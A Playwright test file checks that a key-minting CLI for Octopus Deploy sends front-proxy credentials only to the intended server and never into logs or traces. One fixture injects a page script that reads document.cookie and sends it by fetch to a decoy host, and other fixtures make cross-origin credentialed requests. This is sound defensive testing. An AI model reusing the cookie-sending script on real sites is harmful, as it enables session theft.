import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { unzipSync } from 'fflate';
import { chromium, type Page } from 'playwright';
import { readKeyOwner } from '../../src/api/endpoints.ts';
import { PlaywrightHttp, UndiciHttp } from '../../src/api/http.ts';
import { NOT_NEW } from '../../src/api/newness.ts';
import { openTokenApi } from '../../src/api/octopus-api.ts';
import {
  contextOptions,
  makeBrowserEnvironment,
  negotiateFlags,
} from '../../src/browser/browser-environment.ts';
import { findSystemBrowser } from '../../src/browser/find-browser.ts';
import { NodeRelay, relayRecorded } from '../../src/browser/node-relay.ts';
import { openAnonymousRequests } from '../../src/browser/open-browser.ts';
import { Preflights } from '../../src/browser/preflights.ts';
import { Deadline } from '../../src/core/deadline.ts';
import { readHeaders } from '../../src/core/front.ts';
import { type Network, readNetwork } from '../../src/core/network.ts';
import { openSignInPage } from '../../src/portal/open-portal.ts';
import { redactor } from '../../src/secrets/redactor.ts';
import { Secret } from '../../src/secrets/secret.ts';
import { forward, pass } from '../faults/faults.ts';
import { findLeaks } from '../find-leaks.ts';
import { credentials, expect, test } from '../fixtures.ts';
import { launchBrowser } from '../launch-browser.ts';
import { expectMinted } from '../real-servers/expect-minted.ts';
import { type Served, serve } from '../serve.ts';
import { loadForAnother, startRemoteBrowser } from '../sso/remote-browser.ts';

// What this program gives to what stands in front of a server, and to nothing else.

const USERNAME = 'fake-front-user';
const PASSWORD = 'fake-front-password-0123456789';
const TOKEN = 'fake-service-token-9876543210';
const BASIC = `Basic ${Buffer.from(`${USERNAME}:${PASSWORD}`).toString('base64')}`;
// As Google IAP takes it.
const IAP = 'Bearer fake-iap-token-0123456789';
const SECRETS = [PASSWORD, TOKEN, BASIC, BASIC.slice('Basic '.length), IAP, IAP.slice('Bearer '.length)];
const FILE = `# Fake headers\r\n\r\nCF-Access-Client-Secret: ${TOKEN}\r\nProxy-Authorization: ${IAP}\r\n`;
const ENV = {
  OCTOPUS_HTTP_USERNAME: USERNAME,
  OCTOPUS_HTTP_PASSWORD: PASSWORD,
  OCTOPUS_HEADERS_FILE: 'headers.txt',
};

const read = (text: string) => readHeaders(text).map(({ name, value }) => `${name}: ${value.reveal()}`);

test('a file of headers holds one a line, comments and blank lines', () => {
  expect(read(`A: one\n\n  # B: two\nX-Fake:three: four  \r\nProxy-Authorization: Bearer ${TOKEN}`)).toEqual([
    'A: one',
    'X-Fake: three: four',
    `Proxy-Authorization: Bearer ${TOKEN}`,
  ]);
});

for (const [line, said] of [
  ['Cookie: VALUE', 'line 2 sets Cookie, which'],
  ['authorization: Basic VALUE', 'line 2 sets authorization, which is for what OCTOPUS_HTTP_USERNAME'],
  ['X-Octopus-ApiKey: VALUE', 'line 2 sets X-Octopus-ApiKey, which is set by this program itself'],
  ['x-octopus-csrf-token: VALUE', 'is set by this program itself'],
  ['Host: VALUE', 'is set by this program itself'],
  ['Content-Length: VALUE', 'is set by this program itself'],
  ['Transfer-Encoding: VALUE', 'is set by this program itself'],
  ['Sec-Fetch-Site: VALUE', 'is set by this program itself'],
  ['first: VALUE', 'line 2 sets first a second time'],
  ['VALUE', 'line 2 is no header: write it as Name: value'],
  [': VALUE', 'line 2 is no header'],
  ['Two words: VALUE', 'line 2 is no header'],
  ['Empty:', 'line 2 gives Empty no value'],
  ['Fake: VALUE\u0007', 'line 2 gives Fake a value with a character that no header holds'],
  ['Fake: VALUEł', 'line 2 gives Fake a value with a character that no header holds'],
] as const)
  test(`a file with ${JSON.stringify(line)} is refused, and its value is not told`, () => {
    const text = `First: one\n${line.replace('VALUE', TOKEN)}`;
    expect(() => readHeaders(text)).toThrow(said);
    expect(() => readHeaders(text)).not.toThrow(TOKEN);
  });

for (const [value, parts] of [
  ['Bearer fake-opaque-token-1', ['fake-opaque-token-1']],
  [`Basic ${Buffer.from('fake-user:fake: password').toString('base64')}`, ['fake: password']],
  ['Token token="fake-quoted-token", id=fake-number-of-it', ['fake-quoted-token', 'fake-number-of-it']],
] as const)
  test(`of the header ${JSON.stringify(value)}, no part that is a secret by itself is in a log`, () => {
    readHeaders(`X-Fake: ${value}`);
    for (const part of parts) expect(redactor.redact(`It was not ${part}.`)).toBe('It was not [redacted].');
  });

test('a file without a header is refused', () => {
  expect(() => readHeaders('# Nothing\n')).toThrow('names no header');
});

test('wrong settings for what stands in front end a run before it begins: exit 2', async ({
  startServer,
  runCommand,
  folder,
}) => {
  const server = await startServer();
  await writeFile(join(folder, 'headers.txt'), `\ufeffX-Fake: 1234\nCookie: ${TOKEN}\n`, { mode: 0o600 });
  const env = { ...credentials(server), ...ENV, OCTOPUS_HTTP_PASSWORD: '', OCTOPUS_NEGOTIATE: 'true' };
  const { code, stderr } = await runCommand('mint-key', { env });

  expect(code, stderr).toBe(2);
  expect(stderr).toContain('headers.txt (OCTOPUS_HEADERS_FILE) line 2 sets Cookie');
  expect(stderr).toContain('OCTOPUS_HTTP_USERNAME and OCTOPUS_HTTP_PASSWORD mean something only together');
  expect(stderr).toContain('OCTOPUS_NEGOTIATE (--negotiate) is done by the browser alone');
  expect(findLeaks([TOKEN], stderr)).toEqual([]);
  expect(server.requests).toEqual([]);
});

interface Heard extends Served {
  readonly heard: { readonly path: string; readonly headers: Readonly<Record<string, unknown>> }[];
}

async function listenTo(reply = '{}'): Promise<Heard> {
  const heard: Heard['heard'] = [];
  const served = await serve(({ url = '', headers }, outgoing) => {
    heard.push({ path: url, headers });
    const location = url.startsWith('/away/') ? decodeURIComponent(url.slice('/away/'.length)) : undefined;
    outgoing
      .writeHead(location ? 307 : 200, { ...(location && { location }), 'content-type': 'application/json' })
      .end(reply);
  });
  return { ...served, heard };
}

const settings = {
  httpUsername: USERNAME,
  httpPassword: new Secret(PASSWORD),
  headersFile: readHeaders(FILE),
};
const senders: Readonly<Record<string, (network: Network) => Promise<UndiciHttp | PlaywrightHttp>>> = {
  undici: async (network) => new UndiciHttp(network),
  playwright: async (network) =>
    new PlaywrightHttp(await openAnonymousRequests({ network, isTraced: false }), network),
};

for (const [who, open] of Object.entries(senders))
  test(`${who} gives it to the server alone, and to nobody after a redirect`, async () => {
    await using server = await listenTo();
    await using other = await listenTo();
    const network = readNetwork({ insecureTls: false, ...settings }, [`${server.url}/octopus`], [other.url]);
    const http = await open(network);
    const ask = (address: string, headers = {}) =>
      http.send({ method: 'POST', address, headers, body: {} }, Deadline.ofRun(30_000));
    expect((await ask(`${server.url}/octopus/api`)).askedWith).toBe('basic');
    expect((await ask(`${server.url}/away/${encodeURIComponent(other.url)}`)).status).toBe(307);
    expect((await ask(`${other.url}/api`)).askedWith).toBeUndefined();
    // The header is the access token's then.
    expect((await ask(`${server.url}/api`, { authorization: 'Bearer fake' })).askedWith).toBe('bearer');
    await http.close();
    const told = { authorization: BASIC, 'cf-access-client-secret': TOKEN, 'proxy-authorization': IAP };
    expect(server.heard).toEqual([
      { path: '/octopus/api', headers: expect.objectContaining(told) },
      { path: expect.stringContaining('/away/'), headers: expect.objectContaining(told) },
      { path: '/api', headers: expect.objectContaining({ ...told, authorization: 'Bearer fake' }) },
    ]);
    expect(other.heard).toHaveLength(1);
    expect(other.heard[0]?.headers).not.toHaveProperty('authorization');
    expect(other.heard[0]?.headers).not.toHaveProperty('cf-access-client-secret');
    expect(other.heard[0]?.headers).not.toHaveProperty('proxy-authorization');
  });

test('an access token does not pass a front that wants the same header, and that is told', async () => {
  await using front = await serve((_, outgoing) =>
    outgoing.writeHead(401, { 'www-authenticate': 'Basic realm="Fake"' }).end(),
  );
  const http = new UndiciHttp(readNetwork({ insecureTls: false, ...settings }, [front.url]));
  const api = openTokenApi(http, front.url, new Secret('fake-access-token'), NOT_NEW);
  await expect(readKeyOwner(api, Deadline.ofRun(30_000))).rejects.toThrow(
    'wants a user name and a password in the header that the access token stands in',
  );
  await http.close();
});

const NOBODY = '--auth-server-allowlist=nobody.invalid';

test('Chromium signs in by Kerberos to the hosts of servers alone, and to none by default', () => {
  const servers = ['https://octopus.fake.example:8443/octopus', 'https://other.fake.example'];
  const network = readNetwork({ insecureTls: false, negotiate: true }, servers, [
    'https://login.fake.example',
  ]);
  expect(negotiateFlags(network)).toEqual([
    '--auth-server-allowlist=octopus.fake.example,other.fake.example',
  ]);
  const silent = readNetwork({ insecureTls: false }, servers);
  expect(negotiateFlags(silent)).toEqual([NOBODY]);
  // A ticket for a proxy, which no list of hosts is asked about, is not to be had without tickets.
  expect(makeBrowserEnvironment(silent)).toMatchObject({ KRB5CCNAME: 'MEMORY:none' });
  expect(makeBrowserEnvironment(network)).not.toHaveProperty('KRB5CCNAME');
});

for (const [words, flag] of [
  [['--negotiate'], '--auth-server-allowlist=127.0.0.1'],
  [[], NOBODY],
] as const)
  test(`mint-key ${words.join(' ')} starts Chromium with ${flag}`, {
    tag: '@extended',
  }, async ({ startServer, runCommand, folder }) => {
    test.skip(process.platform === 'win32', 'the browser is wrapped in a shell script');
    const server = await startServer();
    const path = join(folder, 'chromium.sh');
    const found = process.env.OCTOPUS_BROWSER || findSystemBrowser({ headed: false });
    const real = found || chromium.executablePath();
    await writeFile(path, `#!/bin/sh\necho "$@" >> ${folder}/arguments\nexec "${real}" "$@"\n`, {
      mode: 0o700,
    });
    const env = { ...credentials(server), OCTOPUS_BROWSER: path };

    expectMinted(server, await runCommand('mint-key', { env, words: [...words] }));
    const started = (await readFile(join(folder, 'arguments'), 'utf8')).split(/\s+/);
    expect(started.filter((each) => each.startsWith('--auth-'))).toEqual([flag]);
  });

/** Lets pass what bears all of it, and has a page that asks others, too. */
function startFront(target: string, elsewhere: string, lacking: string[]): Promise<Served> {
  return serve(async (incoming, outgoing) => {
    const { authorization, 'cf-access-client-secret': token, 'proxy-authorization': iap } = incoming.headers;
    if (authorization !== BASIC || token !== TOKEN || iap !== IAP)
      lacking.push(`${incoming.method} ${incoming.url}`);
    if (incoming.url === '/away') {
      outgoing.writeHead(307, { location: `${elsewhere}/redirected` }).end();
      return;
    }
    const exchange = { incoming, outgoing, target, elsewhere };
    const reply = await forward(exchange);
    const { 'content-security-policy': _, ...headers } = reply.headers;
    const more = `<img alt="" src="${elsewhere}/picture"><script>
      fetch('/away', { method: 'POST', mode: 'no-cors' });
      const seen = performance.getEntries().map(({ name }) => name).join() + document.cookie;
      fetch('${elsewhere}/seen?' + encodeURIComponent(seen), { mode: 'no-cors' })</script>`;
    pass(exchange, { ...reply, headers }, incoming.url === '/app' ? `${reply.body}${more}` : reply.body);
  });
}

for (const isRecorded of [false, true])
  test(`what a page asks of others, and where it is redirected to, bears nothing of it${isRecorded ? ', where it is recorded, too' : ''}`, {
    tag: isRecorded ? '@extended' : [],
  }, async ({ startServer, startBrowser }) => {
    const server = await startServer();
    await using decoy = await listenTo();
    const lacking: string[] = [];
    await using front = await startFront(server.url, decoy.url, lacking);
    const network = readNetwork({ insecureTls: false, ...settings }, [front.url], [decoy.url]);
    const browser = await chromium.connect(await startBrowser());
    try {
      await NodeRelay.begin(browser, network);
      const context = await browser.newContext(contextOptions(network));
      // Chromium does not know that a page which this process has fetched is of this machine.
      await context.grantPermissions(['local-network-access'], { origin: front.url });
      if (isRecorded) await relayRecorded(context, network);
      const page = await context.newPage();
      const failed: string[] = [];
      page.on('requestfailed', (each) => void failed.push(`${each.url()} ${each.failure()?.errorText}`));
      await openSignInPage(page, front.url, Deadline.ofRun(30_000));
      const paths = () => decoy.heard.map(({ path }) => path.replace(/\?.*/, '')).toSorted();
      await expect.poll(() => [...paths(), ...failed]).toEqual(['/picture', '/redirected', '/seen']);
      await context.close();
    } finally {
      await NodeRelay.end(browser);
      await browser.close();
    }
    expect(lacking).toEqual([]);
    expect(findLeaks(SECRETS, JSON.stringify(decoy.heard))).toEqual([]);
  });

test('what has an encoding and no body, and what is deflated without a header, reaches a page by way of this process, too', async () => {
  await using server = await serve(({ url }, outgoing) => {
    outgoing.setHeader('content-type', 'text/html');
    outgoing.setHeader('content-encoding', url === '/deflated' ? 'deflate' : 'gzip');
    if (url === '/moved') outgoing.writeHead(302, { location: '/deflated' }).end();
    else if (url === '/nothing') outgoing.writeHead(204).end();
    else if (url === '/deflated') outgoing.end(deflateRawSync('deflated'));
    else outgoing.end();
  });
  const browser = await launchBrowser();
  try {
    await NodeRelay.begin(browser, readNetwork({ insecureTls: false, ...settings }, [server.url]));
    const page = await browser.newPage();
    await page.goto(`${server.url}/moved`);
    const told = await page.evaluate(async () => {
      const asked = [
        fetch('/app', { method: 'HEAD' }),
        fetch('/nothing'),
        fetch('/empty'),
        fetch('/deflated'),
      ];
      const replies = asked.map(async (each) => `${(await each).status} ${await (await each).text()}`);
      return await Promise.all(replies.map((each) => each.catch(String)));
    });
    expect([await page.textContent('body'), ...told]).toEqual([
      'deflated',
      ...['200 ', '204 ', '200 ', '200 deflated'],
    ]);
  } finally {
    await browser.close();
  }
});

test('a page of another site has no cookie of the server sent by way of this process, and reads nothing of a reply', async () => {
  const heard: string[] = [];
  await using server = await serve(({ url, method, headers }, outgoing) => {
    if (url === '/set')
      outgoing.setHeader('set-cookie', ['strict=1; SameSite=Strict', 'lax=1; SameSite=Lax', 'fake=1']);
    else heard.push(`${method} ${url} ${headers.cookie ?? ''}`.trim());
    outgoing.writeHead(200, { 'content-type': 'text/html' }).end('<title>Of the server</title>');
  });
  await using other = await serve((_, outgoing) => {
    outgoing.writeHead(200, { 'content-type': 'text/html' }).end(`<script>(async () => {
      const ask = (path, more) => fetch('${server.url}' + path, { credentials: 'include', ...more })
        .then((reply) => reply.text(), () => 'refused');
      const told = [
        await ask('/read'),
        await ask('/sent', { method: 'POST', mode: 'no-cors', body: 'fake' }),
        await ask('/changed', { method: 'DELETE' }),
      ];
      document.title = told.join();
    })()</script>`);
  });
  const elsewhere = other.url.replace('127.0.0.1', 'localhost');
  const network = readNetwork({ insecureTls: false, ...settings }, [server.url], [other.url]);
  const browser = await launchBrowser();
  try {
    await NodeRelay.begin(browser, network);
    const context = await browser.newContext(contextOptions(network));
    await context.grantPermissions(['local-network-access'], { origin: elsewhere });
    const page = await context.newPage();
    await page.goto(`${server.url}/set`);
    await page.goto(`${server.url}/own`);
    await page.goto(elsewhere);
    await expect(page).toHaveTitle('refused,,refused');
  } finally {
    await browser.close();
  }
  const asked = heard.filter((each) => !each.includes('favicon'));
  expect(asked).toEqual(['GET /own strict=1; lax=1; fake=1', 'GET /read', 'POST /sent', 'OPTIONS /changed']);
});

for (const isRecorded of [false, true])
  test(`neither what lets requests pass nor a cookie goes with one that a page of another origin makes without, though a server lets everybody read${isRecorded ? ', where it is recorded, too' : ''}`, async () => {
    const heard: string[] = [];
    await using server = await serve(({ url = '', method, headers }, outgoing) => {
      const given = [headers.authorization, headers['cf-access-client-secret'], headers.cookie];
      heard.push(`${method} ${url} ${given.some(Boolean) ? 'let in' : 'as anybody'}`);
      const all = ['origin', 'methods'].map((what) => [`access-control-allow-${what}`, '*']);
      outgoing.writeHead(200, { ...Object.fromEntries(all), ...COOKIE, 'content-type': 'text/html' });
      outgoing.end(given.some(Boolean) ? 'what is behind' : 'nothing');
    });
    await using other = await serve(({ url }, outgoing) => {
      if (url === '/away')
        return void outgoing.writeHead(307, { location: `${server.url}/redirected` }).end();
      outgoing.writeHead(200, { 'content-type': 'text/html' }).end(`<script>(async () => {
        const ask = (address, more) => fetch(address, { credentials: 'omit', ...more })
          .then((reply) => reply.text(), () => 'refused');
        const told = [
          await ask('${server.url}/read'),
          await ask('/away'),
          await ask('${server.url}/changed', { method: 'DELETE' }),
          await ask('${server.url}/sent', { method: 'POST', mode: 'no-cors', body: 'fake' }),
        ];
        document.title = told.join();
      })()</script><form method="post" action="${server.url}/back"><button>Back</button></form>`);
    });
    const network = readNetwork({ insecureTls: false, ...settings }, [server.url], [other.url]);
    const browser = await launchBrowser();
    try {
      await NodeRelay.begin(browser, network);
      // As where a browser of this machine is started.
      Preflights.prepare(browser, network);
      if (isRecorded) await Preflights.of(browser)?.begin();
      const context = await browser.newContext(contextOptions(network));
      await context.grantPermissions(['local-network-access'], { origin: other.url });
      if (isRecorded) await relayRecorded(context, network);
      const page = await context.newPage();
      await page.goto(`${server.url}/own`);
      await page.goto(other.url);
      await expect(page).toHaveTitle('nothing,nothing,nothing,');
      await page.getByRole('button').click();
      await page.waitForURL(`${server.url}/back`);
    } finally {
      await browser.close();
    }
    expect(heard.filter((each) => !each.includes('favicon'))).toEqual([
      'GET /own let in',
      'GET /read as anybody',
      'GET /redirected as anybody',
      'OPTIONS /changed as anybody',
      'DELETE /changed as anybody',
      'POST /sent as anybody',
      'POST /back let in',
    ]);
  });

const COOKIE = { 'set-cookie': 'fake=1' };

test('a key is made past what wants all of it, and no log and no trace has anything of it', async ({
  startServer,
  runCommand,
  folder,
}) => {
  const server = await startServer();
  const lacking: string[] = [];
  await using decoy = await listenTo();
  await using front = await startFront(server.url, decoy.url, lacking);
  await writeFile(join(folder, 'headers.txt'), FILE, { mode: 0o600 });
  const debug = { LOG_LEVEL: 'trace', DEBUG: 'pw:*', DEBUG_COLORS: '0' };
  const outcome = await runCommand('mint-key', {
    env: { ...credentials(server), ...ENV, ...debug, OCTOPUS_URL: front.url },
    words: ['--trace', 'trace.zip'],
  });

  expectMinted(server, outcome);
  expect(lacking).toEqual([]);
  expect(findLeaks(SECRETS, JSON.stringify(decoy.heard))).toEqual([]);
  expect(findLeaks(SECRETS, outcome.stderr)).toEqual([]);
  for (const [name, bytes] of Object.entries(unzipSync(await readFile(join(folder, 'trace.zip')))))
    expect(findLeaks(SECRETS, Buffer.from(bytes).toString('latin1')), name).toEqual([]);
});

/** Lets nobody in who does not bear a password, and has another client's page ask while a run is under way. */
function startSharedFront(target: string, other: Page, heard: string[]): Promise<Served> {
  return serve(async (incoming, outgoing) => {
    const { url, headers } = incoming;
    if (url?.startsWith('/by-')) {
      heard.push(`${url} ${headers.authorization ? 'let in' : 'as anybody'}`);
      outgoing.writeHead(200, { 'content-type': 'text/html' });
      return void outgoing.end(
        "<script>if (location.pathname === '/by-another') fetch('/by-script')</script>",
      );
    }
    if (headers.authorization !== BASIC) return void outgoing.writeHead(401).end();
    const exchange = { incoming, outgoing, target, elsewhere: '' };
    const reply = await forward(exchange);
    if (url === '/app') await other.goto(`http://${headers.host}/by-another`, { waitUntil: 'networkidle' });
    pass(exchange, reply);
  });
}

for (const kind of ['ws', 'http'] as const)
  test(`in a remote browser (${kind}), what another asks of the server does not pass`, {
    tag: kind === 'ws' ? [] : '@extended',
  }, async ({ startServer, startBrowser, runCommand }) => {
    const server = await startServer();
    const heard: string[] = [];
    await using remote = await useRemote(kind, startBrowser);
    const other = await (await remote.browser.newContext()).newPage();
    await using front = await startSharedFront(server.url, other, heard);
    const given = { OCTOPUS_HTTP_USERNAME: USERNAME, OCTOPUS_HTTP_PASSWORD: PASSWORD };
    const env = { ...credentials(server), ...given, OCTOPUS_URL: front.url, OCTOPUS_BROWSER: remote.address };

    expectMinted(server, await runCommand('mint-key', { env }));
    expect(heard).toEqual(['/by-another as anybody', '/by-script as anybody']);
  });

for (const [what, command, more, exit] of [
  ['mint-key', 'mint-key', {}, 0],
  ['mint-key with a wrong password', 'mint-key', { OCTOPUS_PASSWORD: 'fake-wrong-password' }, 4],
  ['inspect-portal', 'inspect-portal', {}, 0],
] as const)
  test(`a remote browser that ${what} has used loads pages of that server for others`, {
    tag: what === 'mint-key' ? [] : '@extended',
  }, async ({ startServer, startBrowser, runCommand }) => {
    const server = await startServer();
    const address = await startBrowser();
    const given = { OCTOPUS_HTTP_USERNAME: USERNAME, OCTOPUS_HTTP_PASSWORD: PASSWORD };
    const env = { ...credentials(server), ...given, OCTOPUS_BROWSER: address, ...more };
    const { code, stderr } = await runCommand(command, { env });

    expect(code, stderr).toBe(exit);
    expect(await loadForAnother(address, `${server.url}/app`)).toBe(200);
  });

async function useRemote(kind: 'ws' | 'http', startBrowser: () => Promise<string>) {
  if (kind === 'http') return await startRemoteBrowser();
  const address = await startBrowser();
  const browser = await chromium.connect(address);
  return { address, browser, [Symbol.asyncDispose]: () => browser.close() };
}

test('what is in front may repeat all that it is given, and its own cookies: no log has any of it', async ({
  startServer,
  runCommand,
  folder,
}) => {
  const server = await startServer();
  const cookie = 'fake-cookie-of-the-front-0123456789';
  await using front = await serve(async (incoming, outgoing) => {
    const exchange = { incoming, outgoing, target: server.url, elsewhere: '' };
    if (incoming.url === '/app') outgoing.setHeader('set-cookie', `front=${cookie}; HttpOnly`);
    if (incoming.method !== 'POST' || !incoming.url?.endsWith('/apikeys'))
      return pass(exchange, await forward(exchange));
    const { authorization, 'cf-access-client-secret': token, cookie: cookies } = incoming.headers;
    const [, bearer] = incoming.headers['proxy-authorization']?.split(' ') ?? [];
    const ErrorMessage = `You gave ${authorization}, ${token}, ${bearer} and ${cookies}.`;
    outgoing.writeHead(403, { 'content-type': 'application/json' }).end(JSON.stringify({ ErrorMessage }));
  });
  await writeFile(join(folder, 'headers.txt'), FILE, { mode: 0o600 });
  const env = { ...credentials(server), ...ENV, LOG_LEVEL: 'trace', OCTOPUS_URL: front.url };
  const { code, stderr } = await runCommand('mint-key', { env });

  expect(code, stderr).toBe(5);
  expect(stderr).toContain('You gave ');
  expect(findLeaks([...SECRETS, cookie], stderr)).toEqual([]);
});
